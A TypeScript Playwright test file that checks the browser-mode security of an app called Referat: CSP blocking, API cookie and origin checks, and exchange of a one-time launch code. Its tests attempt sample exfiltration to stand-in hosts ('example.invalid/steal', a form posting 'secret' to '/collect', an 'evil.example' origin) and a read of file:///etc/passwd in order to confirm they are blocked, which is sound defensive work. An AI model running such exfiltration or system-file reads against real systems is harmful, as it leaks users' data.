/**
 * Navigation security of browser mode in Chromium: the page's CSP keeps it from reaching other
 * origins (fetch, WebSocket, images), the file system (`file:`), submitting forms anywhere and
 * being framed; the API refuses calls without the session cookie or from another origin; the
 * start address's one-time launch code becomes an HttpOnly SameSite=Strict cookie and leaves
 * the address bar, and works for one browser only. (In Electron
 * the same CSP is served by app://referat and main/electron/electronMain.ts also denies
 * navigation, redirects and new windows.)
 */
import { rmSync } from 'node:fs';
import http from 'node:http';
import { pathToFileURL } from 'node:url';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeLaunchFile } from '../../main/node/host/launchFile';
import {
  launchChromium,
  openBrowserSession,
  startBrowserModeHost,
  type BrowserSession,
} from './helpers/browserMode';

let session: BrowserSession;
let page: Page;
/** Requests the browser tried to send anywhere but the host. */
const escaped: string[] = [];

beforeAll(async () => {
  session = await openBrowserSession();
  page = session.page;
  await session.context.route('**/*', (route) => {
    const url = route.request().url();
    if (url.startsWith(session.host.origin)) return route.continue();
    escaped.push(url);
    return route.abort();
  });
  await page.getByRole('heading', { level: 1 }).first().waitFor();
  await page.evaluate(() => {
    const violations: string[] = [];
    (window as unknown as { __violations: string[] }).__violations = violations;
    document.addEventListener('securitypolicyviolation', (event) =>
      violations.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
});

afterAll(async () => {
  await session?.close();
});

const violations = () =>
  page.evaluate(() => (window as unknown as { __violations: string[] }).__violations.slice());

describe('browser mode: the page cannot reach out', () => {
  it('serves the CSP that forbids other origins, forms and framing', async () => {
    const response = await fetch(session.host.url);
    const csp = response.headers.get('content-security-policy') ?? '';
    for (const directive of [
      "default-src 'none'",
      "connect-src 'self'",
      "form-action 'none'",
      "frame-ancestors 'none'",
      "base-uri 'none'",
      "script-src 'self'",
    ]) {
      expect(csp).toContain(directive);
    }
  });

  it('blocks fetch to another origin and to file:, WebSockets and remote images', async () => {
    const outcome = await page.evaluate(async () => {
      const attempt = async (url: string) => {
        try {
          await fetch(url);
          return 'reached';
        } catch {
          return 'blocked';
        }
      };
      const results = [
        await attempt('http://example.invalid/steal'),
        await attempt('file:///etc/passwd'),
        await attempt('https://example.org/'),
      ];
      // Chromium refuses a WebSocket the CSP forbids with an error event (older engines threw).
      results.push(
        await new Promise<string>((resolve) => {
          try {
            const socket = new WebSocket('ws://example.invalid/');
            socket.onopen = () => resolve('opened');
            socket.onerror = () => resolve('blocked');
            setTimeout(() => resolve('still connecting'), 3000);
          } catch {
            resolve('blocked');
          }
        }),
      );
      const image = new Image();
      image.src = 'http://example.invalid/pixel.png';
      document.body.append(image);
      await new Promise((resolve) => setTimeout(resolve, 300));
      return results;
    });
    expect(outcome).toEqual(['blocked', 'blocked', 'blocked', 'blocked']);
    const seen = await violations();
    expect(seen.some((line) => line.startsWith('connect-src http://example.invalid'))).toBe(true);
    // The socket failed because the CSP refused it, not only because the host does not exist.
    expect(seen.some((line) => line.startsWith('connect-src ws://example.invalid'))).toBe(true);
    expect(seen.some((line) => line.startsWith('img-src'))).toBe(true);
    // Blocked by the CSP before any request left the page.
    expect(escaped).toEqual([]);
  });

  it('cannot submit a form anywhere: the page stays where it is', async () => {
    const before = page.url();
    await page.evaluate(() => {
      const form = document.createElement('form');
      form.action = 'https://example.invalid/collect';
      form.method = 'post';
      const input = document.createElement('input');
      input.name = 'minutes';
      input.value = 'secret';
      form.append(input);
      document.body.append(form);
      form.submit();
    });
    await page.waitForTimeout(300);
    expect(page.url()).toBe(before);
    expect((await violations()).some((line) => line.startsWith('form-action'))).toBe(true);
    expect(escaped).toEqual([]);
  });

  it('cannot be framed by another page', async () => {
    const other = await session.context.newPage();
    try {
      await other.setContent(`<iframe id="f" src="${session.host.url}"></iframe>`);
      await other.waitForTimeout(500);
      const frame = other
        .frames()
        .find((candidate) => candidate.url().startsWith(session.host.origin));
      // Chromium refuses to render it: the frame holds no Referat page.
      const hasApp = frame
        ? await frame.evaluate(() => Boolean(document.getElementById('root'))).catch(() => false)
        : false;
      expect(hasApp).toBe(false);
    } finally {
      await other.close();
    }
  });

  it('the API answers the session cookie only, and refuses another origin even with it', async () => {
    const status = await page.evaluate(async (code) => {
      const post = (headers: Record<string, string>, credentials: RequestCredentials) =>
        fetch('/api/app:info', {
          method: 'POST',
          headers: { 'Content-Type': 'application/json', ...headers },
          body: '{}',
          credentials,
        }).then((r) => r.status);
      return [
        await post({}, 'same-origin'),
        await post({}, 'omit'),
        await post({ 'X-Referat-Token': code }, 'omit'),
      ];
    }, session.host.token);
    expect(status).toEqual([200, 401, 401]);
    const foreign = await new Promise<number>((resolve, reject) => {
      const req = http.request(
        {
          host: '127.0.0.1',
          port: new URL(session.host.origin).port,
          path: '/api/app:info',
          method: 'POST',
          headers: {
            'Content-Type': 'application/json',
            Cookie: session.host.cookie ?? '',
            Origin: 'http://evil.example',
          },
        },
        (res) => {
          res.resume();
          resolve(res.statusCode ?? 0);
        },
      );
      req.on('error', reject);
      req.end('{}');
    });
    expect(foreign).toBe(403);
  });
});

describe('browser mode: the one-time launch code', () => {
  it('Chromium exchanges it for an HttpOnly SameSite=Strict cookie; the address loses it; a second browser is refused', async () => {
    const host = await startBrowserModeHost({ isExchangingCode: false });
    const browser = await launchChromium(['--lang=da-DK']);
    try {
      const first = await browser.newContext({ locale: 'da-DK' });
      const firstPage = await first.newPage();
      await firstPage.goto(host.url);
      await firstPage.getByRole('heading', { level: 1, name: 'Møder' }).waitFor();
      expect(firstPage.url()).toBe(`${host.origin}/`);
      const cookies = await first.cookies(host.origin);
      expect(cookies).toHaveLength(1);
      expect(cookies[0]).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/' });
      expect(cookies[0]?.value).not.toBe(host.token);
      // The page's scripts cannot read it.
      expect(await firstPage.evaluate(() => document.cookie)).toBe('');

      // Someone who read the address from the browser's command line or history comes too late.
      const second = await browser.newContext({ locale: 'da-DK' });
      const secondPage = await second.newPage();
      const refused = await secondPage.goto(host.url);
      expect(refused?.status()).toBe(403);
      const api = await secondPage.evaluate(() =>
        fetch('/api/app:info', {
          method: 'POST',
          headers: { 'Content-Type': 'application/json' },
          body: '{}',
        }).then((r) => r.status),
      );
      expect(api).toBe(401);
    } finally {
      await browser.close().catch(() => undefined);
      await host.stop();
    }
  });

  it('the launch file npm start opens forwards Chromium to the address, which exchanges the code', async () => {
    const host = await startBrowserModeHost({ isExchangingCode: false });
    const browser = await launchChromium(['--lang=da-DK']);
    const file = writeLaunchFile(host.url);
    try {
      const context = await browser.newContext({ locale: 'da-DK' });
      const launched = await context.newPage();
      await launched.goto(pathToFileURL(file).href);
      await launched.getByRole('heading', { level: 1, name: 'Møder' }).waitFor();
      expect(launched.url()).toBe(`${host.origin}/`);
      expect(await context.cookies(host.origin)).toHaveLength(1);
    } finally {
      rmSync(file, { force: true });
      await browser.close().catch(() => undefined);
      await host.stop();
    }
  });
});
